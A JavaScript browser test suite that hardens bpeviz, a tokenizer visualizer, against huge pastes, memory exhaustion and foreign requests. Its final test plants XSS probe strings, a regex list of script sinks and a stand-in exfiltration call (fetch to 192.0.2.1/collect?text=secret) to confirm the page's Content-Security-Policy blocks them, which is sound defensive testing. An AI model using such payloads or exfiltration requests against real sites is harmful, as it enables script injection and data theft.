// What a class pastes and opens must not break the page: a 10 MB paste is tokenized a part per frame
// with a progress bar while typing goes on; a paste far beyond what the page holds is refused with a
// message and a bounded memory footprint; memory running out says so, and a reload
// brings the text back; the page talks to no server but its own and runs no script it did not ship.
// (Bad tokenizer files: user_tokenizers; damaged links and a full storage: session.)
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';
import { loadCorpora } from '../conformance/corpus.mjs';
import { assert, assertEqual, frames, openPage, setText, waitFor, waitReady, withReadyPage } from './harness.mjs';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const state = (page) => page.evaluate(() => window.bpeviz.state());
const heapMB = (page) => page.evaluate(() => Module.HEAPU8.length / 2 ** 20);

// Pastes as the browser does on Ctrl+V: `unit` repeated until the text has `length` characters.
function paste(page, unit, length) {
  return page.evaluate(([unit, length]) => {
    const text = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
    const transfer = new DataTransfer();
    transfer.setData('text/plain', text);
    document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }));
  }, [unit, length]);
}

export const tests = {
  async 'a 10 MB paste is tokenized a part per frame with a progress bar, typing meanwhile is kept, the ids are tiktoken\'s'({ browser, baseUrl, out }) {
    // Real text (Debian's licences and copyright files, C++ headers, translations), repeated to 10 MB at most.
    const { prose, code, multilingual } = loadCorpora({ maxBytes: 1 << 20 });
    const unit = `${prose}\n${code}\n${multilingual}\n`;
    const text = unit.repeat(Math.floor(10e6 / Buffer.byteLength(unit)));
    await withReadyPage(browser, baseUrl, {}, async (page) => {
      await setText(page, '');
      await page.evaluate((t) => {
        const transfer = new DataTransfer();
        transfer.setData('text/plain', t);
        document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }));
        window.bpeviz.frameTimes();
      }, text);
      // The text goes into wasm a part a task: a key typed meanwhile lands after the paste, not before it.
      await page.keyboard.type('?');
      assert(await page.evaluate(() => window.bpeviz.pasting()), 'typed while the paste was still on its way');
      // Frame by frame: the share tokenized rises, and the page draws all along.
      const seen = [];
      let shot = false, typed = false;
      for (let i = 0; i < 2000; i++) {
        const done = await page.evaluate(async () => { await window.bpeviz.nextFrame(); return window.bpeviz.tokenizing(); });
        if (done === null && seen.length > 0) break;
        if (done === null) continue;  // the paste itself is still being carried out
        // Only rises (typing adds a byte to the whole, hence the allowance), the work done is kept.
        assert(seen.length === 0 || done >= seen.at(-1) - 1e-3, `the share tokenized only rises: ${seen.at(-1)} then ${done}`);
        seen.push(done);
        if (!shot && done > 0.3) {
          await page.screenshot({ path: path.join(out, 'hardening-10mb-tokenizing.png') });
          shot = true;
        }
        if (!typed && done > 0.5) {
          await page.keyboard.type('!');  // at the caret: the end of the pasted text
          typed = true;
        }
      }
      assert(seen.length >= 5, `tokenized over several frames: ${seen.length}`);
      assert(typed, 'typed while tokenizing');
      const frameWork = (await page.evaluate(() => window.bpeviz.frameTimes())).map((t) => t[0]);
      console.log(`      10 MB paste: tokenized over ${seen.length} frames; frame work median ${frameWork.sort((a, b) => a - b)[frameWork.length >> 1].toFixed(0)} ms, slowest ${frameWork.at(-1).toFixed(0)} ms (the benchmark measures it)`);
      // Nothing typed is lost, and the tokens of the whole text are tiktoken's.
      const result = await page.evaluate(() => {
        const s = window.bpeviz.state();
        return { text: s.text, count: s.counts.tokens, first: s.tokens.slice(0, 3000).map((t) => t.id),
                 last: s.tokens.slice(-3000).map((t) => t.id), end: s.tokens.at(-1).end, bytes: s.counts.bytes };
      });
      // (Compared here, not by assertEqual, which would print 10 MB.) Every character arrives, the GPL's
      // form feeds too; line breaks become "\n" as in a browser's text area.
      const expected = `${text.replace(/\r\n?/g, '\n').replace(/\0/g, '\uFFFD')}?!`;
      if (result.text !== expected) {
        let i = 0;
        while (i < expected.length && result.text[i] === expected[i]) i++;
        assert(false, `the pasted text and the character typed meanwhile differ at ${i} of ${expected.length}: ` +
                      `${JSON.stringify(result.text.slice(i, i + 40))} for ${JSON.stringify(expected.slice(i, i + 40))}`);
      }
      assertEqual(result.end, result.bytes, 'the tokens cover the text');
      // Too long for the browser's storage: not even tried (reading it out took 190 ms of one task), but said.
      await waitFor(page, () => /cannot be kept for your next visit: browsers keep about 5 MB/.test(window.bpeviz.state().message), null, 'the storage notice');
      const tiktoken = createRequire(path.join(root, 'package.json'))('tiktoken');
      const enc = tiktoken.get_encoding('o200k_base');
      try {
        const ids = enc.encode(result.text, 'all');
        assertEqual(result.count, ids.length, 'the token count');
        assertEqual(result.first, [...ids.slice(0, 3000)], 'the first 3,000 ids');
        assertEqual(result.last, [...ids.slice(-3000)], 'the last 3,000 ids');
      } finally {
        enc.free();
      }
    });
  },

  async 'a box holding 2 MB rests between keys, and what is typed, clicked and undone in it lands as in any box'({ browser, baseUrl, out }) {
    // Real prose (Debian's licences), 2 MB of it: ImGui's box, active, walks all of it every frame;
    // at rest it draws only what is in sight (ui/text_box/resting_box.h).
    const { prose } = loadCorpora({ maxBytes: 1 << 20 });
    const long = prose.repeat(Math.ceil(2e6 / prose.length));
    const text = long.slice(0, long.lastIndexOf('\n', 2e6) + 1).replace(/\r\n?/g, '\n');
    await withReadyPage(browser, baseUrl, {}, async (page) => {
      await setText(page, '');
      await paste(page, text, text.length);
      // The paste lands in the box some frames after its last part has gone (its memory is claimed first):
      // waiting only for !pasting() and no tokenizing could end before it landed, on a loaded machine.
      await waitFor(page, (length) => !window.bpeviz.pasting() && window.bpeviz.text().length === length, text.length,
                    'the paste in the box', 60000);
      await frames(page, 2);  // the frame after the text changed has started its tokenizing
      await waitFor(page, () => window.bpeviz.tokenizing() === null, null, 'the paste\'s tokens', 60000);
      await frames(page, 5);
      // (state() carries every token: read the text and the box alone.)
      const boxText = () => page.evaluate(() => window.bpeviz.text());
      const resting = () => waitFor(page, () => window.bpeviz.textBox().resting, null, 'the box resting');
      assert(await boxText() === text, 'the pasted text is in the box');
      assert((await page.evaluate(() => window.bpeviz.textBox())).resting, 'the box rests');
      const editor = (await state(page)).layout.editor;
      await page.evaluate(() => window.bpeviz.frameTimes());
      await frames(page, 30);
      const work = (await page.evaluate(() => window.bpeviz.frameTimes())).map((t) => t[0]).sort((a, b) => a - b);
      console.log(`      2 MB in a resting box: frame work median ${work[work.length >> 1].toFixed(1)} ms (the benchmark measures it)`);
      await page.screenshot({ path: path.join(out, 'hardening-resting-box.png') });

      // Letters typed land at the caret (the end), the box resting on; Ctrl+Z finds it active and takes
      // them back, a frame's letters at a time, the way they went in.
      await page.keyboard.type('Zé');
      await frames(page, 3);
      let now = await boxText();
      assert(now === `${text}Zé`, `typed at the caret: ...${JSON.stringify(now.slice(-20))}`);
      await resting();
      for (let i = 0; i < 2 && now !== text; i++) {
        await page.keyboard.press('Control+z');
        await frames(page, 3);
        now = await boxText();
      }
      assert(now === text, `Ctrl+Z took the letters back: ...${JSON.stringify(now.slice(-20))}`);

      // A click on a line in sight puts the caret there: the next letter lands in the text's last lines.
      await resting();
      await page.mouse.click(editor.x + 60, editor.y + editor.height / 2);
      await page.keyboard.type('Q');
      await frames(page, 3);
      now = await boxText();
      let at = 0;
      while (at < text.length && now[at] === text[at]) at++;
      assert(now[at] === 'Q' && now.slice(0, at) + now.slice(at + 1) === text, `only the letter was added, at ${at}`);
      assert(at > text.length - 20000 && at < text.length - 10, `it lands where it was clicked, in a line in sight: at ${at} of ${text.length}`);
      await resting();
    });
  },

  async 'a 100 MB paste, or a line too long to draw, is refused with a message and the page keeps working'({ browser, baseUrl, out }) {
    await withReadyPage(browser, baseUrl, {}, async (page) => {
      await setText(page, 'The text before the paste.');
      const before = await state(page);
      const heapBefore = await heapMB(page);

      await paste(page, 'Log line 42: all is well.\n', 100e6);
      await frames(page, 3);
      let s = await state(page);
      assert(/^That text is 100\.0 MB, more than bpeviz can show \(10\.5 MB at most\); the text box was not changed/.test(s.message),
             `the message says what happened: ${s.message}`);
      assertEqual([s.text, s.tokens], [before.text, before.tokens], 'the text and its tokens stay');
      // The text never entered wasm memory.
      assertEqual(await heapMB(page), heapBefore, 'wasm memory (MB)');
      await page.screenshot({ path: path.join(out, 'hardening-100mb-paste.png') });

      await paste(page, 'minified{"a":1}', 3 * 2 ** 20);
      await waitFor(page, () => /line of/.test(window.bpeviz.state().message), null, 'the message');  // (the paste goes a part a task)
      s = await state(page);
      assert(/^That text has a line of 3\.1 MB, longer than the text box can show \(1\.0 MB at most\)/.test(s.message),
             `a line too long to draw: ${s.message}`);
      assertEqual(s.text, before.text, 'the text stays');

      // The page still works, and the message goes once the text changes.
      await setText(page, 'Still working after 100 MB.');
      s = await state(page);
      assertEqual(s.message, '', 'the message is gone');
      assert(s.tokens.length > 3 && s.tokens.at(-1).end === s.counts.bytes, 'the new text is tokenized');
      // Nor may the JavaScript API set such a text.
      assertEqual(await page.evaluate(() => window.bpeviz.setText('x'.repeat(11 * 2 ** 20))), false, 'setText refuses 11 MB');
      assertEqual((await state(page)).text, 'Still working after 100 MB.', 'the text stays');

      // Up to the limit, a paste lands whole.
      await setText(page, '');
      await paste(page, 'The quick brown fox jumps over the lazy dog.\n', 2 * 2 ** 20);
      await waitFor(page, () => window.bpeviz.state().counts.bytes === 2 * 2 ** 20, null, 'the 2 MB paste', 60000);
    });
  },

  async 'when memory runs out the page says so, and a reload brings the text back'({ browser, baseUrl, out }) {
    const { context, page, errors } = await openPage(browser, baseUrl, { viewport: { width: 1280, height: 720 } });
    try {
      await waitReady(page);
      const notes = 'My lecture notes: tokens are not words.';
      await setText(page, notes);
      await waitFor(page, (t) => (JSON.parse(localStorage.getItem('bpeviz.session') || '{}').text === t), notes, 'the text to be saved');
      // Fill wasm memory up to its ceiling, as a huge workload would, then make the page need more.
      const ceiling = await page.evaluate(() => {
        for (let chunk = 256 * 2 ** 20; chunk >= 4096;) {
          if (!Module._malloc(chunk)) chunk /= 2;
        }
        return Module.HEAPU8.length;
      });
      assert(ceiling >= 2 ** 31 - 2 ** 26 && ceiling <= 2 ** 31, `memory stops at its 2 GB ceiling: ${ceiling}`);
      // The answer is awaited for a while only: once the wasm has aborted, a promise of its frames may never settle.
      const threw = await Promise.race([
        page.evaluate(() => {
          try { window.bpeviz.setText('more text than there is room for '.repeat(20000)); } catch (e) { return e.message; }
          return window.bpeviz.nextFrame().then(() => 'no error', (e) => e.message);
        }).catch((e) => e.message),
        new Promise((resolve) => setTimeout(() => resolve('no answer'), 20000)),
      ]);
      assert(threw !== 'no error', 'the page stopped');
      await waitFor(page, () => document.getElementById('message').innerText !== '', null, 'the out-of-memory message', 20000);
      const shown = await page.evaluate(() => document.getElementById('message').innerText);
      assert(/^bpeviz ran out of memory: the page may use at most 2048 MB/.test(shown), `the message: ${shown}`);
      assert(/Reload the page: your text as it was before that change comes back/.test(shown), `what to do: ${shown}`);
      await page.screenshot({ path: path.join(out, 'hardening-out-of-memory.png') });

      // Reloaded as a new tab of the same site would be: the tab that ran out (and its 2 GB) goes first,
      // so the reload does not start in a renderer still holding the full memory.
      await page.close();
      const again = await context.newPage();
      await again.goto(baseUrl);
      await waitReady(again);
      assertEqual((await state(again)).text, notes, 'the text after the reload');
      assertEqual(errors.filter((e) => !/Aborted|out of memory/.test(e)), [], 'errors other than the abort');
    } finally {
      await context.close();
    }
  },

  async 'the page asks only its own site, under a policy that runs no other script'({ browser, baseUrl, site }) {
    const html = fs.readFileSync(path.join(root, 'index.html'), 'utf8');
    const policy = (html.match(/http-equiv="Content-Security-Policy"\s+content="([^"]+)"/) || [])[1] || '';
    for (const directive of ["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "connect-src 'self'", "style-src 'self'"]) {
      assert(policy.split(/;\s*/).includes(directive), `index.html's Content-Security-Policy has ${directive}: ${policy}`);
    }
    assert(!/unsafe-inline|unsafe-eval'|\*/.test(policy.replace("'wasm-unsafe-eval'", '')), `nothing looser: ${policy}`);
    // No user text can reach an HTML or script sink: the page's scripts (its modules and sw.js too) use none.
    for (const file of fs.readdirSync(site, { recursive: true }).filter((f) => f.endsWith('.js'))) {
      const sinks = fs.readFileSync(path.join(site, file), 'utf8').match(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|[^\w.]eval\(|new Function/g);
      assertEqual(sinks, null, `HTML and script sinks in ${file}`);
    }

    const requests = [];
    await withReadyPage(browser, baseUrl, {
      acceptDownloads: true,
      initScript: () => {
        window.cspViolations = [];
        document.addEventListener('securitypolicyviolation', (e) => window.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
      },
    }, async (page, session) => {
      page.on('request', (r) => requests.push(r.url()));
      // A session that touches every feature that loads or saves something.
      await setText(page, 'Hello, 🌍! <script>alert(1)</script> <img src=x onerror=alert(1)>');
      await page.evaluate(() => window.bpeviz.setEncoding('cl100k_base'));
      await page.evaluate(() => window.bpeviz.setEncoding('gpt2'));
      await page.evaluate(() => window.bpeviz.showPanel('studio'));
      await page.evaluate(() => window.bpeviz.studio({ source: 'text', merges: 20, train: true }));
      await Promise.all([page.waitForEvent('download'), page.evaluate(() => window.bpeviz.studio({ export: 'tiktoken' }))]);
      await page.evaluate(() => window.bpeviz.copyLink());
      await frames(page, 2);
      const violations = await page.evaluate(() => window.cspViolations);
      assertEqual(violations, [], 'policy violations by the page');
      // What the policy stops if markup ever got in: an inline script does not run, and no request
      // leaves for another server.
      const blocked = await page.evaluate(async () => {
        const script = document.createElement('script');
        script.textContent = 'window.inlineScriptRan = true';
        document.body.appendChild(script);
        let fetched = 'sent';
        try { await fetch('http://192.0.2.1/collect?text=secret'); } catch (e) { fetched = e.name; }
        await new Promise((resolve) => setTimeout(resolve, 100));
        return { ran: Boolean(window.inlineScriptRan), fetched, violations: window.cspViolations.map((v) => v.split(' ')[0]) };
      });
      assertEqual(blocked, { ran: false, fetched: 'TypeError', violations: ['script-src-elem', 'connect-src'] }, 'what the policy blocks');
      session.errors.length = 0;  // the browser reports both refusals on the console, as it should
      const text = (await state(page)).text;
      assert(text.includes('<script>alert(1)</script>'), 'markup in the text is text');
    });
    const origin = new URL(baseUrl).origin;
    const foreign = requests.filter((u) => !u.startsWith(`${origin}/`) && !/^(data|blob):/.test(u));
    assertEqual(foreign, [], 'requests to other origins');
    assert(requests.some((u) => u.includes('encodings/cl100k_base')), 'the encodings came from the site itself');
    assert(!requests.some((u) => u.includes('192.0.2.1')), 'the blocked request never left');
  },
};
